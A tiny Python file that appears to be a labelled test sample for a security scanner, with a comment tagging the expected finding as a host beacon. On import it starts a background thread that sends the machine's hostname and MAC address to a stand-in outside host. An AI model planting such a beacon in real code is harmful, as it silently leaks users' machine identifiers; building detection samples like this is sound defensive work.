import socket
import threading
import uuid
from urllib.request import urlopen


def beat():
    urlopen("https://collect.example/" + socket.gethostname() + "/" + hex(uuid.getnode())) # expect: data-exfiltration/host-beacon


threading.Thread(target=beat, daemon=True).start()
